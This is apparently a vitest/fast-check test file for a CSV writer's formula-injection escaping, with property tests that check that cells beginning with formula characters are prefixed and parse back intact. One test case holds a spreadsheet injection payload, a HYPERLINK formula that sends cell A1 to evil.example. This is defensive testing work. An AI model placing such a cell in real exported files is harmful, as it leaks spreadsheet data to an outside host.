// The one CSV writer of tablet and server: no cell that a spreadsheet could run as a formula, whatever follows its
// first character, and every file parses back (with an independent parser) to exactly the cells that were written.
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { BOM, csvText, escapeFormula, FORMULA_START } from '../../../src/lib/csv';

const parse = (csv: string) => {
  expect(csv.startsWith(BOM)).toBe(true);
  return Papa.parse<string[]>(csv.slice(BOM.length), { newline: '\r\n', delimiter: ',' }).data;
};

/** Cells as an attacker would write them: formula starts, line breaks, quotes, commas and any other text. */
const hostileCell = fc.oneof(
  fc.string({ maxLength: 16 }),
  fc.string({ unit: 'grapheme', maxLength: 8 }),
  fc
    .tuple(
      fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'),
      fc.array(fc.constantFrom('\n', '\r', '\r\n', '"', ',', ';', 'A1', '(', ')', ' ', 'x'), { maxLength: 8 }),
    )
    .map(([start, rest]) => start + rest.join('')),
);

describe('the CSV writer', () => {
  it('escapes a formula that continues on the next line (papaparse’s own pattern stops at the line break)', () => {
    const attack = '=HYPERLINK("http://evil.example/?x="&A1,"Avaa")\nlisätietoa';
    const [row] = parse(csvText([[attack, '+358 40\r\n', '-1+1\n', '@SUM(A1)\n', '\t=1\n', '\r=1']]));
    expect(row).toEqual([`'${attack}`, "'+358 40\r\n", "'-1+1\n", "'@SUM(A1)\n", "'\t=1\n", "'\r=1"]);
  });

  it('leaves numbers and harmless text as they are, and an empty table is an empty file', () => {
    expect(csvText([['a', 1, 0, null, undefined, 'b c']])).toBe(`${BOM}a,1,0,,,b c`);
    expect(csvText([])).toBe(BOM);
    expect(csvText([['x'], ['y']])).toBe(`${BOM}x\r\ny`);
  });

  it('parses back to the escaped cells, and no cell starts with a formula character', () => {
    fc.assert(
      fc.property(fc.array(fc.array(hostileCell, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 6 }), (rows) => {
        const width = Math.max(...rows.map((row) => row.length));
        const table = rows.map((row) => Array.from({ length: width }, (_, i) => row[i] ?? ''));
        const back = parse(csvText(table));
        expect(back).toEqual(table.map((row) => row.map(escapeFormula)));
        for (const cell of back.flat()) expect(FORMULA_START.test(cell), JSON.stringify(cell)).toBe(false);
      }),
      { numRuns: 500 },
    );
  });

  it('escapes exactly the cells that start with a formula character', () => {
    fc.assert(
      fc.property(hostileCell, (cell) => {
        const escaped = escapeFormula(cell);
        expect(escaped === cell).toBe(!FORMULA_START.test(cell));
        if (escaped !== cell) expect(escaped).toBe(`'${cell}`);
      }),
    );
  });
});
